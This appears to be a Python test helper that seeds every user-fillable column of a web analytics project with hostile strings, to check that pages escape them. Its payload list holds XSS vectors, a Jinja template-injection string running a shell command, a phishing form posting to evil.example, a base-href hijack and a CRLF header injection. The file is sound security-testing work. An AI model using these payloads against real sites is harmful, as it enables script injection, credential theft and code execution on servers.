"""Writes what an attacker would write into every field that anybody but us fills, in every table of a project.

Columns are taken from the models: a new one is hostile until ``OURS`` says that only the product writes it. Each text
carries ``data-of="table.column"``, so that a page which lets it through tells where it came from.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import timedelta
from typing import Any, Final
from uuid import UUID, uuid4

import psycopg
from psycopg import sql
from psycopg.types.json import Jsonb
from sqlalchemy import ARRAY, CheckConstraint, Column, Table, TypeDecorator
from sqlalchemy.dialects.postgresql import JSONB

from adapters.postgres.base import Base
from adapters.postgres.engine import Database, conninfo
from insights.segments.store import create_segment
from insights.vocabulary.events import PROPS
from tests.viewer.seed import NOW, Visit, store

PAYLOADS: Final = [
    "<script>alert('fired')</script>",
    "\"><img src=x onerror=alert('fired')>",
    "'><svg onload=alert('fired')>",
    "</title></style></textarea><script>alert('fired')</script>",
    "javascript:alert('fired')",
    "' autofocus onfocus=alert('fired') x='",
    "\" autofocus onfocus=alert('fired') x=\"",
    "{{ cycler.__init__.__globals__.os.popen('touch /tmp/fired') }}{% raw %}",
    "</svg><math><mtext><table><mglyph><style><img src=x onerror=alert('fired')>",
    "--><iframe srcdoc=\"<script>parent.alert('fired')</script>\">",
    "<a href=\"javascript:alert('fired')\">click me</a>",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>alert('fired')</script>\">",
    "<form action=https://evil.example><button autofocus>Log in</button></form>",
    "<base href=https://evil.example/>",
    "<style>body{display:none}</style><link rel=stylesheet href=data:text/css,*{display:none}>",
    "\u202egnp.exe",
    "x\r\nSet-Cookie: a=b",
]

OURS: Final[dict[str, set[str]]] = {
    "api_key": {"kind", "role", "scopes"},
    "channel": {"kind", "word"},
    "insight": {"kind", "reason"},
    "live_action": {"action", "stages"},
    "membership": {"role"},
    "pattern": {"dimension", "kind", "reason"},
    "policy": {"role", "settings"},
    "segment": {"condition"},
    "session": {"kind", "reason"},
}
"""Columns by table in which only the product's own words stand; what reads them relies on it. A segment's condition
is held to its language: ``add_hostile_segment`` writes the most that it lets through."""

OUR_KEYS: Final = frozenset({"do", "on", "kind", "reasons", "action", "template", "stages"})
"""Keys of stored JSON whose values are such words."""

_SHAPED: Final = re.compile(r"[0-9a-f]{8}-[0-9a-f-]{27}|\d{4}-\d\d-\d\d.*|P[T\dDHMS]+")


def text_of(column: str) -> str:
    """Every payload in one text, an address first, with the column it stands in."""
    return f"javascript:alert('fired')//<b data-of={column}>{' '.join(PAYLOADS)}"


def hostile_visit(payload: str, visitor_id: UUID, started_at: Any = NOW - timedelta(hours=1)) -> Visit:
    """The payload in every prop of every event type, and in all that is said of the visit."""
    names = {field.rstrip("_") for props in PROPS.values() for field in props.__struct_fields__}
    source = dict.fromkeys(("utm_source", "utm_medium", "utm_campaign", "referrer"), payload)
    client = dict.fromkeys(("viewport", "language", "time_zone", "bot"), payload)

    def props(kind: str) -> dict[str, Any]:
        filled: dict[str, Any] = dict.fromkeys(sorted(names), payload)
        filled |= {payload: payload, "traits": {payload: [payload]}, "price_minor": 5, "value_minor": 5}
        return filled | ({"source": source, "client": client} if kind == "page_viewed" else {})

    return Visit(
        started_at,
        [(n, kind, props(kind), f"/{payload}") for n, kind in enumerate([*PROPS, payload])],
        visitor_id=visitor_id,
        email=payload,
        stage=payload,
        reason=payload,
        narrative=payload,
        classifier=payload,
        fallback=payload,
        cite=range(len(PROPS)),
        suggested=[{"action": payload, payload: payload}],
    )


def poison(owner_url: str, project_id: UUID) -> None:
    """Writes it into every row of the project."""
    with psycopg.connect(conninfo(owner_url), autocommit=True) as connection:
        for table, column in _columns():
            _write(connection, table, column, project_id)
        # Two tables that belong to no project.
        connection.execute("UPDATE project SET name = %s WHERE id = %s", [text_of("project.name"), project_id])
        connection.execute(
            "UPDATE member SET email = %s || id WHERE id IN (SELECT member_id FROM membership WHERE project_id = %s)",
            [text_of("member.email"), project_id],
        )


def _columns() -> Iterator[tuple[Table, Column[Any]]]:
    for table in Base.metadata.sorted_tables:
        ours = OURS.get(table.name, set()) | _chosen(table)
        for column in table.c:
            if "project_id" in table.c and column.name not in ours and not column.foreign_keys:
                yield table, column


def _chosen(table: Table) -> set[str]:
    """Columns whose values a check constraint lists."""
    checks = [str(one.sqltext) for one in table.constraints if isinstance(one, CheckConstraint)]
    return {name for check in checks for name in re.findall(r"(\w+) IN \(", check)}


def _write(connection: psycopg.Connection[Any], table: Table, column: Column[Any], project_id: UUID) -> None:
    kind = column.type.impl_instance if isinstance(column.type, TypeDecorator) else column.type
    payload = text_of(f"{table.name}.{column.name}")
    names = {"table": sql.Identifier(table.name), "column": sql.Identifier(column.name)}
    if isinstance(kind, JSONB):
        read = sql.SQL("SELECT ctid, tableoid, {column} FROM {table} WHERE project_id = %s AND {column} IS NOT NULL")
        write = sql.SQL("UPDATE {table} SET {column} = %s WHERE ctid = %s AND tableoid = %s")
        for ctid, part, value in connection.execute(read.format(**names), [project_id]).fetchall():
            connection.execute(write.format(**names), [Jsonb(_within(value, payload)), ctid, part])
        return
    if isinstance(kind, ARRAY):
        if kind.item_type.python_type is str:
            write = sql.SQL("UPDATE {table} SET {column} = ARRAY[%s] WHERE project_id = %s")
            connection.execute(write.format(**names), [payload, project_id])
        return
    if kind.python_type is not str:
        return
    # What must be unique stays so: each row ends with its place in the table.
    write = sql.SQL(
        "UPDATE {table} SET {column} = %s || ' ' || tableoid::text || ctid::text"
        " WHERE project_id = %s AND {column} IS NOT NULL"
    )
    connection.execute(write.format(**names), [payload, project_id])


def _within(value: Any, payload: str, key: str = "") -> Any:
    """The value with the payload in place of each text that is not a word of ours."""
    if isinstance(value, dict):
        return {name: _within(one, payload, name) for name, one in value.items()}
    if isinstance(value, list):
        return [_within(one, payload, key) for one in value]
    if isinstance(value, str) and key not in OUR_KEYS and not _SHAPED.fullmatch(value):
        return payload
    return value


async def add_hostile_visit(database: Database, project_id: UUID, started_at: Any) -> Visit:
    """A visit in which everything is hostile, of a visitor of its own."""
    visit = hostile_visit(text_of("visit"), uuid4(), started_at)
    visit.reason = "unclear"  # reports count by reason, and only those of the taxonomy are ever stored
    async with database.transaction(project_id) as tx:
        await store(tx, project_id, visit)
    return visit


async def add_hostile_segment(database: Database, project_id: UUID) -> None:
    """A segment that asks for a hostile tag."""
    tag = "<b data-of=segment.condition><script>alert('fired')</script><img src=x onerror=alert('fired')>"
    async with database.transaction(project_id) as tx:
        written = {"field": "visitor.tags", "op": "has", "value": tag}
        await create_segment(tx, project_id, name="hostile", description="", written=written, now=NOW)
